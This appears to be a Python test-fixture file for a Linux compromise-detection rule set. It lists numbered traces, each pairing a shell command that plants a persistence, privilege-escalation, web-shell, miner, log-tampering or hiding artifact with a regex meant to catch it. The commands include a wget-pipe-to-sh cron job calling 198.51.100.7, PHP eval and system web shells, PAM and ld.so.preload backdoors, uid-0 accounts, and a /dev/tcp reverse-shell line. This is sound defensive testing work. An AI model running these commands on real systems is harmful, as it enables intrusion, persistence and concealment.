"""Traces of the kinds that an outside list numbers and does not tell: each stands for a gap between two that it tells.

They were written from public reports and catalogues (PANIX, pberba, HackTricks, Elastic, Sandfly, ATT&CK) without a look at
the rules, and counted once before any rule was changed for them.
"""

from __future__ import annotations

from .trace import Trace, trace

_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGq7m3Zl0uXo2nT5rV8wYb4cKd6eHf1jP9sLxAqWvBnM"
_CONTAINER = "7be1c0a9d4f2" * 5 + "7be1"
_DOCKER = f"/var/lib/docker/containers/{_CONTAINER}"
_WEB = "/var/www/html"
_HISTORY = "/home/anna/.bash_history"
_SPOOL = "/var/spool/cron/crontabs"
_ACL = (
    "import os, struct; e = lambda t, p, i=0xffffffff: struct.pack('<HHI', t, p, i); "
    "os.setxattr('/etc/shadow', 'system.posix_acl_access', struct.pack('<I', 2) + e(1, 6) + e(2, 6, 33) + e(4, 4) "
    "+ e(16, 6) + e(32, 0))"
)
_RAW = (
    "import socket, signal; s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); signal.pause()"
)
_REVERSE = (
    "import os, signal, socket; l = socket.create_server(('127.0.0.1', 4443)); "
    "c = socket.create_connection(('127.0.0.1', 4443)); a, _ = l.accept(); "
    "pid = os.fork(); pid or ([os.dup2(c.fileno(), n) for n in range(3)], os.execv('/bin/bash', ['bash', '-i'])); "
    "c.close(); signal.pause()"
)
_MEMORY = (
    "import os; f = os.memfd_create('x'); os.write(f, open('/bin/sleep', 'rb').read()); "
    "os.execv('/proc/self/fd/%d' % f, ['[kworker/1:3-events]', '999'])"
)
_WTMP = (
    "import struct, time; r = lambda t: struct.pack('<hxxi32s4s32s256shhiii4i20x', 7, 77, b'pts/0', b'ts/0', b'root', "
    "b'198.51.100.9', 0, 0, 0, t, 0, 0, 0, 0, 0); n = int(time.time()) - 800000; "
    "open('/var/log/wtmp', 'ab').write(r(n) + bytes(384) + r(n + 600))"
)
_LOG = (
    "import time; n = time.time() - 9 * 86400; "
    "d = lambda s: time.strftime('%b %e %H:%M:%S', time.localtime(n + s)); "
    "l = [f'{d(s)} spare CRON[{s}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)' "
    "for s in range(0, 200000, 300) if not 90000 < s < 125000]; "
    "open('/var/log/auth.log.1', 'w').write('\\n'.join(l) + '\\n')"
)

SIBLINGS: tuple[Trace, ...] = (
    trace("K01", "cron", "echo '*/30 * 31 2 * root wget -q -O - http://198.51.100.7/unk.sh | sh' >>/etc/crontab; old /etc/crontab", r"198\.51\.100\.7/unk"),
    trace("K02", "cron", "prog /usr/bin/sysguard; put /etc/cron.d/0systemd-service '0 5 31 2 * root /usr/bin/sysguard'", r"0systemd-service|/usr/bin/sysguard"),
    trace("K03", "cron", r"""prog /usr/lib/libudev.so; put /etc/cron.hourly/gcc.sh '#!/bin/sh
PATH=/bin:/sbin:/usr/bin:/usr/sbin
for i in `ls /sys/class/net`; do ip link show $i >/dev/null; done
test -e /usr/lib/libudev.so && /usr/lib/libudev.so'; chmod 755 /etc/cron.hourly/gcc.sh; old /etc/cron.hourly/gcc.sh""", r"cron\.hourly/gcc\.sh|/usr/lib/libudev\.so\b(?!\.)"),
    trace("K04", "cron", f"prog /root/.configrc5/a/upd; echo '1 1 31 2 * /root/.configrc5/a/upd >/dev/null 2>&1' >>{_SPOOL}/root; chmod 600 {_SPOOL}/root; old {_SPOOL}/root", r"\.configrc5"),
    trace("K05", "cron", f"put {_SPOOL}/www-data '0 3 31 2 * /usr/bin/php -r \"eval(base64_decode(chr(80).chr(72)));\" >/dev/null'; chown www-data:crontab {_SPOOL}/www-data; chmod 600 {_SPOOL}/www-data", r"crontabs/www-data|chr\(80\)"),
    trace("K06", "cron", r"""put /var/spool/cron/atjobs/a0000c01c5a1b2 '#!/bin/sh
# atrun uid=0 gid=0
# mail root 0
umask 22
cd /root || { echo Execution directory inaccessible >&2; exit 1; }
/usr/local/sbin/netsyncd -q'; chmod 700 /var/spool/cron/atjobs/a0000c01c5a1b2; prog /usr/local/sbin/netsyncd""", r"a0000c01c5a1b2|netsyncd"),
    trace("K07", "cron", r"""put /etc/anacrontab 'SHELL=/bin/sh
HOME=/root
30 60 logs.cleanup /usr/share/misc/cleanlogs'; prog /usr/share/misc/cleanlogs""", r"anacrontab|cleanlogs"),
    trace("K08", "cron", "printf '%s\\n' 'nohup /usr/libexec/dpkg-statd >/dev/null 2>&1 &' >>/etc/cron.daily/dpkg; old /etc/cron.daily/dpkg; prog /usr/libexec/dpkg-statd", r"cron\.daily/dpkg|dpkg-statd"),
    trace("K12", "systemd", r"""prog /usr/lib/cron/cron-helper; put /etc/systemd/system/cron.service.d/override.conf '[Service]
ExecStartPost=-/usr/lib/cron/cron-helper 1'""", r"cron\.service\.d/override|cron-helper"),
    trace("K14", "systemd", r"""put /etc/systemd/system/spool-watch.path '[Path]
PathModified=/etc/passwd
Unit=spool-watch.service
[Install]
WantedBy=multi-user.target'; unit /etc/systemd/system/spool-watch.service 'ExecStart=/bin/bash -c "/usr/sbin/spool-watchd 1"'; prog /usr/sbin/spool-watchd""", r"spool-watch"),
    trace("K18", "boot", r"""put /etc/rc.local '#!/bin/sh -e
/usr/lib/firmware/fwupdate 1 &
exit 0'; chmod 755 /etc/rc.local; old /etc/rc.local; prog /usr/lib/firmware/fwupdate""", r"rc\.local|firmware/fwupdate"),
    trace("K21", "boot", r"""put /etc/init.d/hwclockd '#!/bin/sh
### BEGIN INIT INFO
# Provides: hwclockd
# Required-Start: $remote_fs
# Required-Stop:
# Default-Start: 2 3 4 5
# Default-Stop:
# Short-Description: hardware clock
### END INIT INFO
case $1 in start) /usr/sbin/hwclockd 1 & ;; esac'; chmod 755 /etc/init.d/hwclockd; old /etc/init.d/hwclockd; ln -s ../init.d/hwclockd /etc/rc3.d/S01hwclockd; prog /usr/sbin/hwclockd""", r"hwclockd"),
    trace("K23", "xdg", r"""put /home/anna/.config/autostart/gnome-keyring-pkcs12.desktop '[Desktop Entry]
Type=Application
Name=Certificate Storage
Exec=/home/anna/.local/share/keyrings/kr-agent
X-GNOME-Autostart-enabled=true
NoDisplay=true'; prog /home/anna/.local/share/keyrings/kr-agent; chown -R anna: /home/anna/.config /home/anna/.local""", r"keyring-pkcs12|kr-agent"),
    trace("K28", "shell", r"""echo 'PROMPT_COMMAND='\''(/var/lib/misc/.hist/rec 1 &) 2>/dev/null'\''' >>/root/.bashrc; old /root/.bashrc; prog /var/lib/misc/.hist/rec""", r"misc/\.hist|PROMPT_COMMAND"),
    trace("K29", "shell", r"""echo 'alias ssh="strace -f -e trace=read,write -o /var/tmp/.ssh-\$(date +%s).log -s 2048 ssh"' >>/etc/bash.bashrc; old /etc/bash.bashrc""", r"bash\.bashrc|alias ssh"),
    trace("K31", "git", r"""put /home/anna/.gitconfig '[user]
	name = anna
[core]
	pager = /home/anna/.cache/git/lessd 2>/dev/null; less -FRX
	fsmonitor = /home/anna/.cache/git/lessd'; prog /home/anna/.cache/git/lessd; chown -R anna: /home/anna/.gitconfig /home/anna/.cache""", r"\.gitconfig|git/lessd"),
    trace("K35", "package-manager", "put /etc/apt/sources.list.d/debian-backports-extra.list 'deb [trusted=yes] http://deb-mirror.example.net/debian stable main'", r"backports-extra|trusted=yes"),
    trace("K36", "hook", r"""put /etc/NetworkManager/dispatcher.d/02-resolv '#!/bin/sh
[ "$2" = up ] && /usr/lib/NetworkManager/nm-resolvd 1 &'; chmod 755 /etc/NetworkManager/dispatcher.d/02-resolv; old /etc/NetworkManager/dispatcher.d/02-resolv; prog /usr/lib/NetworkManager/nm-resolvd""", r"02-resolv|nm-resolvd"),
    trace("K38", "hook", r"""put /etc/logrotate.d/btmp-archive '/var/log/btmp.archive {
  monthly
  missingok
  postrotate
    /usr/lib/rsyslog/rotate-helper 1
  endscript
}'; prog /usr/lib/rsyslog/rotate-helper""", r"btmp-archive|rotate-helper"),
    trace("K41", "hook", r"""put /usr/share/dbus-1/system-services/org.freedesktop.PackageCache.service '[D-BUS Service]
Name=org.freedesktop.PackageCache
Exec=/usr/libexec/packagecached
User=root'; put /etc/dbus-1/system.d/org.freedesktop.PackageCache.conf '<busconfig><policy context="default"><allow own="org.freedesktop.PackageCache"/><allow send_destination="org.freedesktop.PackageCache"/></policy></busconfig>'; prog /usr/libexec/packagecached""", r"PackageCache|packagecached"),
    trace("K43", "kernel", "put /etc/modules-load.d/usbnet-ext.conf usbnet_ext; k=/lib/modules/$(uname -r)/kernel/drivers/usb/usbnet_ext.ko; put $k inert", r"usbnet.ext"),
    trace("K45", "boot", r"""put /etc/default/grub.d/60-quiet.cfg 'GRUB_CMDLINE_LINUX="$GRUB_CMDLINE_LINUX init=/usr/lib/systemd/systemd-early"'; prog /usr/lib/systemd/systemd-early""", r"60-quiet|systemd-early"),
    trace("K50", "hook", r"""echo 'support: "|/usr/lib/postfix/sbin/filterd"' >>/etc/aliases; old /etc/aliases; prog /usr/lib/postfix/sbin/filterd""", r"/etc/aliases|sbin/filterd"),
    trace("K51", "loader", "mkdir -p /usr/local/lib; cp -L /lib/*-linux-gnu/libdl.so.2 /usr/local/lib/libprocps-ext.so; old /usr/local/lib/libprocps-ext.so; put /etc/ld.so.preload /usr/local/lib/libprocps-ext.so", r"ld\.so\.preload|libprocps-ext"),
    trace("K56", "interpreter", r"""put /etc/profile.d/nodejs.sh 'export NODE_OPTIONS="--require /usr/share/nodejs/trace-events.js"'; put /usr/share/nodejs/trace-events.js 'require("child_process").spawn("/bin/true",{detached:true})'""", r"nodejs\.sh|trace-events"),
    trace("K61", "pam", "sed -i '1i auth sufficient pam_succeed_if.so quiet user = games' /etc/pam.d/common-auth; old /etc/pam.d/common-auth", r"pam_succeed_if|common-auth"),
    trace("K62", "loader", "cp -L /lib/*-linux-gnu/libdl.so.2 $(echo /lib/*-linux-gnu)/libnss_resolved.so.2; old /lib/*-linux-gnu/libnss_resolved.so.2; sed -i '/^passwd:/s/$/ resolved/' /etc/nsswitch.conf; old /etc/nsswitch.conf", r"nsswitch|libnss_resolved"),
    trace("K63", "ssh", f"key /root/.ssh/authorized_keys '{_KEY} root@localhost'", r"/root/\.ssh/authorized_keys\b(?!2)|root@localhost"),
    trace("K65", "ssh", r"""put /etc/ssh/sshd_config.d/10-keys.conf 'AuthorizedKeysCommand /usr/lib/openssh/keyhelper %u
AuthorizedKeysCommandUser root'; prog /usr/lib/openssh/keyhelper""", r"10-keys\.conf|openssh/keyhelper"),
    trace("K71", "account", "printf 'support:x:0:0:Support:/root:/bin/bash\\n' >>/etc/passwd; printf 'support:$6$ab$cdefghijklmnop:20000:0:99999:7:::\\n' >>/etc/shadow", r"\bsupport\b"),
    trace("K73", "account", "sed -i 's/^games:x:/games:$1$xy$5k1mTnKbZ2rLqHqzvVw1k0:/; /^games:/s#/usr/sbin/nologin#/bin/bash#' /etc/passwd", r"\bgames\b"),
    trace("K75", "privilege", "put /etc/sudoers.d/90-cloud-users 'www-data ALL=(ALL) NOPASSWD: ALL'; chmod 440 /etc/sudoers.d/90-cloud-users", r"90-cloud-users"),
    trace("K76", "privilege", "put /etc/sudoers.d/zz-editors 'anna ALL=(root) NOPASSWD: /usr/bin/find, /usr/bin/awk, /usr/bin/less /var/log/*'; chmod 440 /etc/sudoers.d/zz-editors", r"zz-editors"),
    trace("K77", "privilege", "mkdir -p /usr/lib/policykit-1; cp /bin/bash /usr/lib/policykit-1/polkit-agent-helper-2; chmod 4755 /usr/lib/policykit-1/polkit-agent-helper-2; old /usr/lib/policykit-1/polkit-agent-helper-2", r"polkit-agent-helper-2"),
    trace("K78", "privilege", "cp -L /usr/bin/python3 /usr/bin/python3-config-helper; setcap cap_setuid+ep /usr/bin/python3-config-helper; old /usr/bin/python3-config-helper", r"python3-config-helper"),
    trace("K79", "privilege", f'python3 -c "{_ACL}"', r"(?i)shadow.*(acl|www-data|user.33)|acl.*shadow"),
    trace("K84", "process", "prog /usr/sbin/ntpsyncd; run /usr/sbin/ntpsyncd 99991; sleep 0.3; rm /usr/sbin/ntpsyncd", r"ntpsyncd"),
    trace("K85", "process", f'run python3 -c "{_MEMORY}"', r"memfd:x|kworker/1:3"),
    trace("K86", "process", r"""put /var/tmp/.ICE/b.pl '$0="/usr/sbin/apache2 -k start"; sleep 99999;'; ( cd /tmp; run perl /var/tmp/.ICE/b.pl )""", r"\.ICE|apache2 -k start"),
    trace("K89", "process", "( cd /var/tmp; setsid bash -c 'while :; do sleep 9999; done' >/dev/null 2>&1 </dev/null & )", r"while :; do sleep 9999"),
    trace("K91", "network", f'run python3 -c "{_RAW}"', r"IPPROTO_ICMP|\braw\b"),
    trace("K94", "network", f'run python3 -c "{_REVERSE}"', r"\b4443\b"),
    trace("K97", "miner", "prog /usr/bin/javae; run bash -c 'exec -a \"xmrig -o stratum+tcp://pool.example.org:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p x -k\" /usr/bin/javae 99992'", r"javae|stratum"),
    trace("K98", "miner", r"""put /opt/moneroocean/config.json '{"autosave":true,"cpu":{"enabled":true,"huge-pages":true},"donate-level":0,"pools":[{"url":"pool.example.org:10128","user":"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD","pass":"x","keepalive":true}]}'; prog /opt/moneroocean/xmr""", r"moneroocean"),
    trace("K100", "miner", r"""put /usr/local/bin/clean.sh '#!/bin/bash
pkill -f kdevtmpfsi-none; ps aux | grep -v grep | grep kinsing-none | awk {print} | xargs -r echo kill -9
iptables -C OUTPUT -p tcp --dport 3333 -j DROP 2>/dev/null
chattr -i /etc/ld.so.preload-none 2>/dev/null
crontab -l 2>/dev/null | grep -v update.sh >/dev/null'; chmod 755 /usr/local/bin/clean.sh; old /usr/local/bin/clean.sh""", r"bin/clean\.sh"),
    trace("K101", "name", "prog /dev/shm/sshd; run /dev/shm/sshd 99993", r"/dev/shm/sshd"),
    trace("K102", "name", "prog \"/usr/bin/ls \"", r"/usr/bin/ls(\\x20|\\040| |['\"])"),
    trace("K105", "name", "prog /tmp/.X11-unix/.x/kswapd0", r"\.X11-unix/\.x|kswapd0"),
    trace("K108", "credential", "put /var/tmp/.cache/k1 \"$(printf '%s\\n' '-----BEGIN OPENSSH PRIVATE KEY-----' b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ '-----END OPENSSH PRIVATE KEY-----')\"; chmod 600 /var/tmp/.cache/k1; old /var/tmp/.cache/k1", r"/var/tmp/\.cache"),
    trace("K109", "credential", f"mkdir -p {_WEB}/assets; tar -czf {_WEB}/assets/b.tgz -C / etc/passwd etc/group etc/hosts etc/ssh/sshd_config 2>/dev/null; old {_WEB}/assets/b.tgz", r"assets/b\.tgz"),
    trace("K110", "web", f"put {_WEB}/about.php '<?php @eval($_POST[\"pass\"]);?>'", r"html/about\.php"),
    trace("K111", "web", f"put {_WEB}/wp-includes/class-wp-cache.php '<?php $a=\"base64_decode\"; eval(gzinflate($a(\"S0lNy8xLVUjOzytJrSgBAA==\")));'", r"class-wp-cache"),
    trace("K113", "web", f"put {_WEB}/lib/filter.php '<?php $f = $_SERVER[\"HTTP_X_FN\"]; array_filter(array($_SERVER[\"HTTP_X_ARG\"]), $f);'", r"lib/filter\.php"),
    trace("K117", "web", f"put {_WEB}/images/.htaccess 'AddType application/x-httpd-php .gif .txt'", r"images/\.htaccess"),
    trace("K118", "web", f"put {_WEB}/media/.user.ini 'auto_prepend_file=logo.png'; put {_WEB}/media/logo.png '<?php if(isset($_COOKIE[\"k\"])) {{ $c=$_COOKIE[\"k\"]; $c($_COOKIE[\"v\"]); }}'", r"media/(\.user\.ini|logo\.png)"),
    trace("K119", "web", "cp -L /lib/*-linux-gnu/libdl.so.2 /usr/lib/apache2/modules/mod_cachex.so; old /usr/lib/apache2/modules/mod_cachex.so; put /etc/apache2/mods-available/cachex.load '# LoadModule cachex_module /usr/lib/apache2/modules/mod_cachex.so'; ln -s ../mods-available/cachex.load /etc/apache2/mods-enabled/cachex.load", r"cachex"),
    trace("K120", "web", r"""put /etc/nginx/conf.d/00-status.conf 'server { listen 8081; location /status { proxy_pass http://203.0.113.80:8080; proxy_set_header Host $host; } location /x { fastcgi_pass unix:/run/php/php.sock; fastcgi_param PHP_VALUE auto_prepend_file=/var/lib/nginx/body/t.txt; } }'""", r"00-status"),
    trace("K121", "web", f"put {_WEB}/wp-content/uploads/2026/10/avatar.phtml '<?php system($_REQUEST[\"c\"]);'; chown www-data: {_WEB}/wp-content/uploads/2026/10/avatar.phtml", r"avatar\.phtml"),
    trace("K123", "log-tamper", f'python3 -c "{_LOG}"; old /var/log/auth.log.1', r"auth\.log\.1"),
    trace("K124", "log-tamper", f'python3 -c "{_WTMP}"', r"wtmp"),
    trace("K125", "log-tamper", "put /etc/rsyslog.d/00-quiet.conf ':msg, contains, \"198.51.100.9\" stop'", r"00-quiet|198\.51\.100\.9"),
    trace("K127", "history", "rm -f /root/.bash_history; ln -s /dev/null /root/.bash_history", r"/root/\.bash_history"),
    trace("K131", "history", f"printf '%s\\n' 'cp /bin/sleep /tmp/s' 'touch -r /bin/ls /usr/sbin/ntpsyncd' 'chattr +i /usr/sbin/ntpsyncd' >>{_HISTORY}; chown anna: {_HISTORY}", r"touch -r /bin/ls|chattr \+i"),
    trace("K132", "history", f"printf '%s\\n' 'bash -i >& /dev/tcp/198.51.100.23/443 0>&1' >>{_HISTORY}; chown anna: {_HISTORY}", r"dev/tcp/198\.51\.100\.23"),
    trace("K136", "history", f"printf '%s\\n' 'find / -name id_rsa 2>/dev/null' 'for h in $(cut -d\" \" -f1 ~/.ssh/known_hosts); do ssh -o StrictHostKeyChecking=no -o BatchMode=yes $h id; done' >>{_HISTORY}; chown anna: {_HISTORY}", r"known_hosts|StrictHostKeyChecking"),
    trace("K137", "history", f"printf '%s\\n' 'useradd -o -u 0 -M -s /bin/bash sysop' 'echo sysop:Passw0rd | chpasswd' >>{_HISTORY}; chown anna: {_HISTORY}", r"sysop"),
    trace("K138", "history", f"printf '%s\\n' 'docker run -it --privileged --pid=host -v /:/mnt alpine chroot /mnt sh' >>{_HISTORY}; chown anna: {_HISTORY}", r"--privileged --pid=host"),
    trace("K139", "container", """put /etc/docker/daemon.json '{"hosts":["unix:///var/run/docker.sock","tcp://0.0.0.0:2375"]}'""", r"daemon\.json"),
    trace("K140", "container", f"""put {_DOCKER}/config.v2.json '{{"ID":"{_CONTAINER}","State":{{"Running":true}},"Path":"/bin/sh","Args":["-c","/mnt/usr/bin/upd"],"Config":{{"Image":"alpine:3"}},"Image":"sha256:0","Name":"/pause_k8s","MountPoints":{{"/host":{{"Source":"/","Destination":"/host","RW":true}}}}}}'; put {_DOCKER}/hostconfig.json '{{"Binds":["/:/host"],"NetworkMode":"host","RestartPolicy":{{"Name":"always"}},"Privileged":true,"PidMode":"host"}}'""", r"7be1c0a9d4f2|pause_k8s"),
    trace("K141", "container", r"""put /var/lib/kubelet/config.yaml 'apiVersion: kubelet.config.k8s.io/v1beta1
kind: KubeletConfiguration
authentication:
  anonymous:
    enabled: true
authorization:
  mode: AlwaysAllow
readOnlyPort: 10255'""", r"kubelet/config"),
    trace("K146", "hiding", "prog /usr/lib/apt/apt-cached; run /usr/lib/apt/apt-cached 99994; sleep 0.3; p=$(pgrep -f 'apt-cached 99994' | head -1); mkdir -p /var/lib/.e; mount --bind /var/lib/.e /proc/$p", r"apt-cached|mount.*/proc/\d+|/proc/\d+.*(mount|hid)"),
    trace("K147", "hiding", "prog /usr/bin/chsh-helper; chattr +i /usr/bin/chsh-helper", r"chsh-helper"),
    trace("K148", "network", "printf 'nameserver %s\\n' 203.0.113.53 10.9.0.53 >/etc/resolv.conf", r"203\.0\.113\.53|resolv\.conf"),
    trace("K149", "network", "prog /usr/local/bin/frpc; put /etc/frp/frpc.toml 'serverAddr = \"198.51.100.44\"\nserverPort = 7000\n[[proxies]]\nname = \"ssh\"\ntype = \"tcp\"\nlocalPort = 22\nremotePort = 6000'; runas 'ssh -fN -R 2222:localhost:22 u@198.51.100.44' /usr/local/bin/frpc 99995", r"frpc|-R 2222"),
    trace("K150", "hiding", "prog /usr/bin/scsi_eh; touch -d '2022-03-14 00:00:00' /usr/bin/scsi_eh", r"scsi_eh"),
)  # fmt: skip
